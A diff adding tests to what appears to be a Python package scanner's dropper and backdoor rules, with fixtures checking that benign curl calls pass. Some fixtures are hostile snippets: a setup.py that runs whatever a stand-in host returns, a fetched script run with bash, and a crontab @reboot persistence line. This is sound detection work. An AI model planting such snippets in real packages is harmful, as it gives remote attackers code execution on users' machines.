@@ -136,6 +136,14 @@ def test_a_tool_fetched_from_one_fixed_https_address_is_high_not_critical() -> N
     assert severity("https://tools.example/flamegraph.pl") == [Severity.HIGH]
     assert severity("http://tools.example/flamegraph.pl") == [Severity.CRITICAL]
     assert severity("https://203.0.113.7/flamegraph.pl") == [Severity.CRITICAL]
+    # the same fetch whose result the file also plants in a Run key / @reboot line
+    persisted = template + (
+        "def keep(path):\n"
+        "    line = '@reboot ' + path + '\\n'\n"
+        "    subprocess.run(['crontab', '-'], input=line, text=True)\n"
+    )
+    found = run(RULES, py(persisted.format(url="https://tools.example/flamegraph.pl"), stage=Stage.RUNTIME))
+    assert [f.severity for f in found if f.rule == "PV-DL-002"] == [Severity.CRITICAL]
 
 
 def test_a_download_helper_the_dropper_calls_is_linked_to_what_it_runs() -> None:
@@ -472,3 +480,77 @@ def test_a_dockerfile_or_a_script_nothing_runs_is_no_dropper() -> None:
     assert "PV-DL-003" not in ids(run(RULES, py(dockerfile, path="acme/__init__.py")))
     unrun = "open('install.sh', 'w').write('curl -sSL https://x.invalid/install.sh | sh')\n"
     assert "PV-DL-003" not in ids(run(RULES, py(unrun, path="acme/__init__.py")))
+
+
+def test_curl_as_an_http_client_and_a_version_check_download_nothing() -> None:
+    """cua's providers call their local VM API with ``curl -s -X POST`` and read the reply, and
+    check ``curl --version`` at import; ``curl -o`` and ``curl > file`` save what they fetch."""
+    from pipvet.analysis.rules._shell import Command, classify
+
+    assert classify("curl --version") is Command.BUILD_TOOL
+    assert classify("docker --version") is Command.BUILD_TOOL
+    # compilers by their Windows, cross and versioned names (plotext's kernel build)
+    for compiler in (
+        "cl.exe /LD /O2 k.cpp",
+        "x86_64-w64-mingw32-g++ -shared -o k.dll k.cpp",
+        "gcc-12 -c a.c",
+    ):
+        assert classify(compiler) is Command.BUILD_TOOL, compiler
+    assert classify("payload.exe /silent") is Command.HIDDEN
+    assert classify("curl -s -X POST -H Content-Type: application/json http://h:7777/vms") is Command.NETWORK
+    assert classify("curl --connect-timeout 15 -s -f http://h/api") is Command.NETWORK
+    for saving in (
+        "curl -sSLo /tmp/x http://h/x",
+        "curl -o x.bin http://h/x",
+        "curl -O http://h/x.tar.gz",
+        "curl http://h/x > /tmp/x",
+        "wget http://h/x",
+        "curl --output x http://h/x",
+    ):
+        assert classify(saving) is Command.DOWNLOAD, saving
+    source = (
+        "import subprocess\n"
+        "def status(url):\n"
+        "    return subprocess.run(['curl', '-s', '--max-time', '10', url], capture_output=True).stdout\n"
+        "subprocess.run(['curl', '--version'], capture_output=True)\n"
+    )
+    assert run(RULES, py(source, path="acme/api.py", stage=Stage.IMPORT)) == []
+
+
+def test_a_config_file_written_for_a_program_is_not_the_program_run() -> None:
+    """supervisely writes the ``wg0.conf`` its server returns and hands it to ``wg-quick``:
+    the program is the system's, the file is its configuration."""
+    template = (
+        "import os, subprocess, requests\n"
+        "def connect(folder):\n"
+        "    target = os.path.join(folder, '{name}')\n"
+        "    reply = requests.post('http://203.0.113.5/register').text\n"
+        "    with open(target, 'w') as f:\n"
+        "        f.write(reply)\n"
+        "    subprocess.run(['{program}', 'up', target])\n"
+    )
+    config = template.format(name="wg0.conf", program="wg-quick")
+    assert "PV-DL-002" not in ids(run(RULES, py(config, stage=Stage.RUNTIME)))
+    dropper = template.format(name="update.sh", program="bash")
+    assert "PV-DL-002" in ids(run(RULES, py(dropper, stage=Stage.RUNTIME)))
+
+
+def test_a_command_curl_fetched_and_then_run_is_a_backdoor() -> None:
+    """pymocks' setup.py: ``banner = getoutput('curl http://h/msg.html')``, then
+    ``getoutput(str(banner))`` runs whatever the address answered."""
+    source = (
+        "import subprocess\n"
+        "try:\n"
+        "    banner = subprocess.getoutput('curl http://graphs.example.invalid/pyg.html')\n"
+        "    subprocess.getoutput(str(banner))\n"
+        "except Exception:\n"
+        "    pass\n"
+    )
+    found = [
+        f
+        for f in run(RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL))
+        if f.rule == "PV-DL-001"
+    ]
+    assert [f.severity for f in found] == [Severity.CRITICAL]
+    shown = source.replace("subprocess.getoutput(str(banner))", "print(banner)")
+    assert "PV-DL-001" not in ids(run(RULES, py(shown, path="demo-1.0/setup.py", stage=Stage.INSTALL)))
